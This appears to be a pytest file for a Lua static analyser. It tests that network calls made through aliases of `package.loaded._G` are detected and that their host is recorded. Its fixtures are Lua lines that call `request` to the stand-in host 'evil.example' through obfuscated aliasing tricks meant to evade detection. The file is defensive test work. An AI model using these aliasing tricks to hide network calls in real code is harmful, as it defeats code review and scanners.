"""Findings of the eleventh pass, second round (static analyser), each a test that fails
before its fix:

* (1) the table of globals reached through ``package.loaded._G`` and kept in a local
  (``local g = package.loaded._G; g["request"](u)``, ``local r = g.request``, also
  ``package.loaded["_G"]``, ``_G.package.loaded._G``, ``p.loaded._G`` with ``local p =
  package``) was no alias of ``_G``: the call through it gave only RA112, never the
  finding the same call written ``request(u)`` gives (RA101, RA103, its host).
"""

from __future__ import annotations

import pytest
from analysis_support import lua


def _rules(code: str) -> set[str]:
    return {f.rule for f in lua(code).findings}


# -- 1: the table of globals through package.loaded, kept in a local -------------------------

@pytest.mark.parametrize("alias", [
    "local g = package.loaded._G",
    "local g = package . loaded . _G",
    "local g = package.loaded['_G']",
    'local g = package.loaded["\\95G"]',
    "local g = _G.package.loaded._G",
    "local p = package\nlocal g = p.loaded._G",
    "local x, g = 1, package.loaded._G",
    "g = package.loaded._G",
])
@pytest.mark.parametrize("use", [
    'g["request"](id, "https://evil.example/x")',
    'local r = g.request\nr(id, "https://evil.example/x")',
    'g.request(id, "https://evil.example/x")',
])
def test_a_call_through_package_loaded_g_in_a_local_is_that_call(alias: str, use: str) -> None:
    if alias.startswith("local p") and use.startswith("local r"):
        pytest.skip("an alias of an alias of an alias: past the rounds followed (RA601)")
    a = lua(f"{alias}\n{use}")
    got = {f.rule for f in a.findings}
    assert {"RA101", "RA103", "RA112"} <= got
    assert "evil.example" in {h.name for h in a.url_hosts}
    assert any(p.name == "network.request" for p in a.requires)


def test_a_direct_call_gives_the_same_findings() -> None:
    # what the alias must give: the direct call's (RA112 for the lookup through package)
    direct = _rules('package.loaded._G.request(id, "https://evil.example/x")')
    assert direct == _rules('local g = package.loaded._G\ng["request"](id, '
                            '"https://evil.example/x")')


@pytest.mark.parametrize("code", [
    'local g = package.loaded\ng["request"](id, "https://evil.example/x")',
    'local g = package.loaded._Gx\ng["request"](id, "https://evil.example/x")',
    'local g = package.loaded.mod._G\ng["request"](id, "https://evil.example/x")',
    'local t = {}\nlocal g = t.package.loaded._G\ng["request"](id, "https://evil.example/x")',
])
def test_what_is_not_the_table_of_globals_stays_none(code: str) -> None:
    assert "RA101" not in _rules(code)
